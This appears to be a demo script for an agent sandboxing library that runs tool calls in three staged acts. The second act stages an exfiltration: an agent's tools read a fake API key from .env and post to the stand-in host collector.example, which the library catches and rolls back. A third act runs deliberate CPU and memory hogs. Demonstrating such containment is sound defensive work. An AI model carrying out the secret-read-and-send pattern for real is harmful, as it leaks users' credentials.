"""A safe agent in three acts: risky code in a sandbox, an attack that is undone, a program that takes too much.

    python examples/foundation4_sandbox_demo.py [--fast] [--isolation strict|process] [--folder DIR]

Everything is real: the tools below are ordinary functions, the files are on disk, and nothing is sent anywhere.
``--fast``: a busy program is ended after a second instead of ten. ``--folder``: keep the files there, to look at them.
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import tempfile
from pathlib import Path

from ringfence import IsolationLevel, ResourceLimits, ResourceMonitor, SandboxConfig, SandboxError, SandboxManager
from ringfence.errors import AttackError, EvidenceError
from ringfence.integrations.deep_agent import SafeConfig, SafeDeepAgent, ToolResult, verify_audit

ANALYSIS = """\
rows = [float(line) for line in open("data.csv")]
open("report.txt", "w").write(f"mean {sum(rows) / len(rows)}\\n")
print(f"mean {sum(rows) / len(rows)} of {len(rows)} rows")
"""
BUSY = """\
open("half-done.txt", "w").write("never finished")
while True:
    pass
"""
HUNGRY = """\
open("half-done.txt", "w").write("never finished")
hoard = [bytearray(b"x" * 2**20) for _ in range(4096)]
"""
REPOSITORY = {"analysis.py": ANALYSIS, "busy.py": BUSY, "hungry.py": HUNGRY, "data.csv": "1\n2\n3\n6\n",
              ".env": "API_KEY=not-a-real-key-4711\n"}  # fmt: skip


# ---- the agent's tools: they know nothing of sandboxes


def execute_script(path):
    import contextlib
    import io
    import runpy

    with contextlib.redirect_stdout(io.StringIO()) as printed:
        runpy.run_path(path, run_name="__main__")
    return printed.getvalue().strip()


def read_file(path):
    with open(path) as file:
        return file.read()


def write_file(path, text):
    with open(path, "w") as file:
        file.write(text)


def http_post(url, body):
    import urllib.request

    return urllib.request.urlopen(url, data=body.encode(), timeout=5).status


TOOLS = [execute_script, read_file, write_file, http_post]


# ---- the stage


class Stage:
    """Aligned lines; colours on a terminal only."""

    def __init__(self, folder: Path, isolation: str, fast: bool) -> None:
        self.folder = folder
        self.isolation = IsolationLevel(isolation)
        # A busy machine may give a program much less than a core: to be quick, little must be enough.
        self.cpu_percent, self.cpu_s = (5.0, 1) if fast else (80.0, 10)
        self.colours = sys.stdout.isatty() and not os.environ.get("NO_COLOR")

    def repository(self, name: str) -> Path:
        place = self.folder / name
        place.mkdir(parents=True)
        for file, text in REPOSITORY.items():
            (place / file).write_text(text)
        os.chdir(place)
        return place

    def agent(self, repository: Path, limits: ResourceLimits | None = None) -> SafeDeepAgent:
        config = SandboxConfig(
            isolation_level=self.isolation, allowed_paths=[repository], sandbox_root=self.folder / "sandboxes",
            resource_limits=limits or ResourceLimits(),
        )  # fmt: skip
        manager = SandboxManager(config)
        manager.monitor = ResourceMonitor(over_for_s={"max_cpu_percent": self.cpu_s})
        safe_config = SafeConfig(sandbox=config)
        return SafeDeepAgent(TOOLS, safe_config=safe_config, manager=manager, audit=self.folder / "audit.jsonl")

    def last_record(self) -> dict:
        return json.loads((self.folder / "audit.jsonl").read_text().splitlines()[-1])

    def act(self, number: int, title: str) -> None:
        print(f"\n{self._paint('1', f'{number}  {title}')}")

    def call(self, agent: SafeDeepAgent, tool: str, **parameters: str) -> ToolResult | None:
        shown = ", ".join(f"{name}={text[:28]!r}" for name, text in parameters.items())
        print(f"   ▸ {tool}({shown})")
        try:
            result = agent.run_tool(tool, **parameters)
        except AttackError as error:
            self.line("✗ attack", error.findings[0], "31")
            return None
        self.line("risk", f"{result.decision.risk_score:.2f} → {'sandbox' if result.sandboxed else 'directly'}")
        if result.success:
            self.line("✓ done", _one_line(result.value) or "-", "32")
        else:
            self.line("✗ ended", _one_line(result.error), "31")
        return result

    def line(self, label: str, text: str, colour: str = "2") -> None:
        print(f"     {self._paint(colour, f'{label:<12}')} {text}")

    def files(self, when: str, repository: Path) -> None:
        self.line(when, "  ".join(sorted(os.listdir(repository))))

    def _paint(self, colour: str, text: str) -> str:
        return f"\033[{colour}m{text}\033[0m" if self.colours else text


def _one_line(value: object) -> str:
    text = "" if value is None else str(value).strip()
    return text.splitlines()[0][:90].rstrip(": ") if text else ""


# ---- the three acts


def risky_code(stage: Stage) -> None:
    stage.act(1, "Risky code runs in a sandbox; it went well, so its changes are kept")
    repository = stage.repository("act-1")
    stage.files("before", repository)
    with stage.agent(repository) as agent:
        stage.call(agent, "execute_script", path="analysis.py")
        stage.line("in sandbox", "  ".join(os.path.basename(path) for path in agent.sandbox.changed()))
    stage.line("committed", "  ".join(os.path.basename(path) for path in stage.last_record()["paths"]))
    stage.files("after", repository)


def attack(stage: Stage) -> None:
    stage.act(2, "A secret is read, and later something is to be sent: an attack, undone")
    repository = stage.repository("act-2")
    stage.files("before", repository)
    with stage.agent(repository) as agent:
        stage.call(agent, "write_file", path="todo.txt", text="write the report")
        secret = stage.call(agent, "read_file", path=".env")
        stage.call(agent, "write_file", path="notes.txt", text=str(secret.value if secret else ""))
        stage.line("in sandbox", "  ".join(os.path.basename(path) for path in agent.sandbox.changed()))
        stage.call(agent, "http_post", url="http://collector.example/", body="notes")
        undone = stage.last_record()
        stage.line("rolled back", f"{undone['rollback_type']}, paths restored: {undone['files_restored']}")
        stage.line("in sandbox", "  ".join(os.path.basename(path) for path in agent.sandbox.changed()))
        stage.line("agent", "stands still until reset()" if agent.halted else "goes on")
    stage.files("after", repository)


def too_much(stage: Stage) -> None:
    stage.act(3, "A program that takes all it can get is ended, and what it wrote is gone")
    repository = stage.repository("act-3")
    stage.files("before", repository)
    for script, said, limits in (
        ("busy.py", f"{stage.cpu_percent:.0f} % of a core for {stage.cpu_s} s", {"max_cpu_percent": stage.cpu_percent}),
        ("hungry.py", "256 MB", {"max_cpu_percent": 400.0, "max_memory_mb": 256}),
    ):
        with stage.agent(repository, limits=ResourceLimits(max_execution_time=60, **limits)) as agent:
            result = stage.call(agent, "execute_script", path=script)
            stage.line("limit", said)
            stage.line("rolled back", "yes" if result is not None and result.rolled_back else "no")
    stage.files("after", repository)


def audit_log(stage: Stage) -> None:
    print(f"\n{stage._paint('1', 'The audit log')}")
    path = stage.folder / "audit.jsonl"
    summary = verify_audit(path)
    told = ", ".join(f"{count} {event}" for event, count in summary.events.items())
    stage.line("✓ holds", f"{summary.count} records ({told})", "32")
    stage.line("secret", "in clear" if b"not-a-real-key" in path.read_bytes() else "nowhere in it")
    forged = stage.folder / "forged.jsonl"
    forged.write_bytes(path.read_bytes().replace(b"http_post", b"read_file", 1))
    try:
        verify_audit(forged)
        stage.line("✗ forged", "not found", "31")
    except EvidenceError as error:
        stage.line("forged copy", f"found: {error}")


def main() -> int:
    parser = argparse.ArgumentParser(description="The three use cases of a safe agent.")
    parser.add_argument("--fast", action="store_true", help="one second of overuse instead of ten")
    parser.add_argument("--isolation", default="strict", choices=["strict", "process"])
    parser.add_argument("--folder", type=Path, help="keep the files here")
    options = parser.parse_args()
    if options.folder is not None and options.folder.exists() and any(options.folder.iterdir()):
        parser.error(f"{options.folder} is not empty")
    home = os.getcwd()
    with tempfile.TemporaryDirectory(prefix="ringfence-demo-") as temporary:
        stage = Stage((options.folder or Path(temporary)).resolve(), options.isolation, options.fast)
        print(f"ringfence: a safe agent in three acts ({options.isolation})")
        try:
            for act in (risky_code, attack, too_much, audit_log):
                act(stage)
        except SandboxError as error:
            print(f"\nringfence: {error}\n  {error.hint}", file=sys.stderr)
            return 1
        finally:
            os.chdir(home)
    return 0


if __name__ == "__main__":
    sys.exit(main())
